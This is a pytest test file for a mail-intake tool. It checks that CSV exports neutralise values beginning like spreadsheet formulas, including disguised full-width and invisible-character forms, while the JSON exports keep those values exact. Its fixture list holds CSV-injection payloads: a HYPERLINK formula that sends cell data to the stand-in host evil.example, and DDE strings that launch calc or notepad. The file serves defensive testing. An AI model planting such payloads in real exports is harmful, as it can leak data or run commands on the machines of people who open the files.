"""CSV exports opened in a spreadsheet: unit names, correspondents, titles,
subjects and addresses that begin like formulas come out as text, while the
JSON lists keep every value exactly as it was.

Everything starts from a registration form and mail: hostile units and
correspondents are imported with ``units import``, each sends a piece whose
title is hostile too, one ``poll --once`` files them, and the three CSV
exports (``report``, ``submissions list``, ``messages list``) are read back.
"""

from __future__ import annotations

import csv
import io
import json
import unicodedata
from dataclasses import dataclass
from email.headerregistry import Address
from email.message import EmailMessage
from email.policy import default
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import FIXTURES, deliver, write_config
from test_reading_hostile import DOCX, good_docx

from mailintake.cli.main import main
from mailintake.config.settings import load_config
from mailintake.office.csvout import csv_cell

NOW = "2026-11-20T10:00:00+08:00"
HEADERS = ["单位名称", "简称", "单位类别", "信息员姓名", "职务", "邮箱", "联系电话"]

# How a formula may begin: the OWASP signs, after invisible characters, and in their
# full-width and small compatibility forms. (The form's import trims leading spaces;
# test_every_formula_shape_is_neutralised covers those.)
LEADS = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "\u200b=", "\ufeff+",
         "\u2066@", "\u202e-"]
PAYLOADS = ['HYPERLINK("http://evil.example/?d="&A1,"查看详情")', "cmd|' /C calc'!A0",
            "2+3+cmd|' /C notepad'!A1", "SUM(1+1)*cmd|' /C calc'!A0"]


@dataclass(frozen=True)
class Shape:
    """One hostile unit, its correspondent and the piece they send."""

    index: int
    lead: str

    @property
    def payload(self) -> str:
        return PAYLOADS[self.index % len(PAYLOADS)]

    @property
    def unit(self) -> str:
        return f"{self.lead}{self.payload}"

    @property
    def alias(self) -> str:
        return f"外来单位{'甲乙丙丁戊己庚辛壬癸子丑寅卯辰巳午'[self.index]}"

    @property
    def person(self) -> str:
        return f"{self.lead}{self.payload[:20]}"

    @property
    def address(self) -> str:
        return f"hostile{self.index}@example.test"

    @property
    def message_id(self) -> str:
        return f"-{self.index}+x@example.test"

    @property
    def title(self) -> str:
        return f"{self.lead}{self.payload}我校扎实推进党的建设"

    def mail(self) -> bytes:
        msg = EmailMessage()
        msg["From"] = Address(self.person, addr_spec=self.address)
        msg["To"] = "xxbs@126.com"
        msg["Subject"] = f"{self.alias}信息（2026.11.18）{self.title}"
        msg["Date"] = "Wed, 18 Nov 2026 10:05:21 +0800"
        msg["Message-ID"] = f"<{self.message_id}>"
        msg.set_content("您好！附件为网站信息，请审核。\n")
        msg.add_attachment(good_docx(), maintype="application", subtype=DOCX.split("/")[1],
                           filename="稿件.docx")
        return msg.as_bytes(policy=default.clone(linesep="\n"))


SHAPES = [Shape(i, lead) for i, lead in enumerate(LEADS)]


def takes_as_formula(cell: str) -> bool:
    """Whether a spreadsheet opening the CSV would read ``cell`` as a formula."""
    if cell.startswith("'"):
        return False
    if cell[:1] in ("\t", "\r"):
        return True
    rest = "".join(c for c in cell if unicodedata.category(c) not in ("Cf", "Cc")).lstrip()
    return unicodedata.normalize("NFKC", rest[:1])[:1] in ("=", "+", "-", "@")


def run(config: Path, *args: str) -> str:
    result = CliRunner().invoke(main, ["--config", str(config), "--now", NOW, *args])
    assert result.exit_code == 0, result.output
    return result.stdout


@pytest.fixture(scope="module")
def office(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A Maildir + SQLite office with the hostile units imported and their mail filed."""
    work = tmp_path_factory.mktemp("exports")
    config = write_config(work, f"sqlite:///{work / 'mailintake.db'}")
    form = work / "units.csv"
    with form.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerows(csv.reader(
            (FIXTURES / "units.csv").read_text(encoding="utf-8-sig").splitlines()))
        for shape in SHAPES:
            writer.writerow([shape.unit, shape.alias, "学校", shape.person, "教师",
                             shape.address, "1"])
    run(config, "db", "upgrade")
    run(config, "units", "import", str(form))
    deliver(load_config(config), *(shape.mail() for shape in SHAPES))
    run(config, "poll", "--once")
    return config


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


EXPORTS = {
    "report by unit": ("report", "--period", "2026-11"),
    "report by correspondent": ("report", "--period", "2026-11", "--by", "correspondent"),
    "submissions list": ("submissions", "list"),
    "messages list": ("messages", "list"),
}


@pytest.mark.parametrize("export", list(EXPORTS))
def test_no_csv_cell_is_a_formula(office: Path, export: str) -> None:
    """Every text cell of a CSV export is text to a spreadsheet, and the hostile text is in it."""
    rows = csv_rows(run(office, *EXPORTS[export], "--format", "csv"))
    cells = [cell for row in rows[1:] for cell in row]
    formulas = [cell for cell in cells if takes_as_formula(cell)]
    assert formulas == []
    # Each hostile value is there, neutralised with one apostrophe and otherwise whole.
    for shape in SHAPES:
        for value in HOSTILE_FIELDS[export](shape):
            assert "'" + value in cells, (export, value)


HOSTILE_FIELDS = {
    "report by unit": lambda s: [s.unit],
    "report by correspondent": lambda s: [s.person, s.unit],
    "submissions list": lambda s: [s.unit, s.title, s.message_id],
    "messages list": lambda s: [s.person, s.message_id],
}


NUMBERS = {
    "report by unit": ["received", "accepted", "rejected", "points"],
    "report by correspondent": ["received", "accepted", "rejected", "points"],
    "submissions list": ["word_count", "picture_count"],
    "messages list": ["size"],
}


@pytest.mark.parametrize("export", list(EXPORTS))
def test_csv_numbers_stay_numbers(office: Path, export: str) -> None:
    """Counts, sizes and points are written as plain numbers, never given an apostrophe."""
    header, *rows = csv_rows(run(office, *EXPORTS[export], "--format", "csv"))
    assert len(rows) >= len(SHAPES)
    for row in rows:
        for key in NUMBERS[export]:
            assert float(row[header.index(key)]) >= 0, (key, row)


@pytest.mark.parametrize("shape", SHAPES, ids=[repr(s.lead) for s in SHAPES])
def test_json_lists_keep_hostile_values_exactly(office: Path, shape: Shape) -> None:
    """`--format json` shows the unit, title, sender and Message-ID exactly as they came."""
    submissions = [json.loads(line) for line in
                   run(office, "submissions", "list", "--format", "json").splitlines()]
    [piece] = [s for s in submissions if s["from"] == shape.address]
    assert piece["unit"] == shape.unit
    assert piece["title"] == shape.title
    assert piece["message_id"] == shape.message_id
    messages = [json.loads(line) for line in
                run(office, "messages", "list", "--format", "json").splitlines()]
    [message] = [m for m in messages if m["from"] == shape.address]
    assert message["from_name"] == shape.person
    report = json.loads(run(office, "report", "--period", "2026-11", "--format", "json"))
    assert shape.unit in {row["unit"] for row in report["rows"]}


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\n=1", " =1", "   +1", "\u00a0=1", "\u3000@1",
     "\u200b=1", "\u200e=1", "\u202e=1", "\ufeff=1", "\x00=1", "＝1", "＋1", "－1", "＠1", "﹦1",
     "⁼1", "₊1", "\t", "\r"],
    ids=repr,
)
def test_every_formula_shape_is_neutralised(text: str) -> None:
    """A text beginning like a formula, however disguised, gets one leading apostrophe."""
    assert csv_cell(text) == "'" + text
    assert not takes_as_formula(str(csv_cell(text)))


@pytest.mark.parametrize(
    ("value", "expected"),
    [("组织部", "组织部"), ("a=b", "a=b"), ("1-2", "1-2"), ("", ""), (None, ""), (3, 3),
     (-2, -2), (1.5, 1.5), (True, True), (["=x", "y"], '["=x", "y"]'),
     (["中文"], '["中文"]'), ({"a": "=1"}, '{"a": "=1"}')],
    ids=repr,
)
def test_plain_cells_are_left_alone(value: object, expected: object) -> None:
    """Text that is no formula, numbers and JSON of lists are written as they are."""
    assert csv_cell(value) == expected
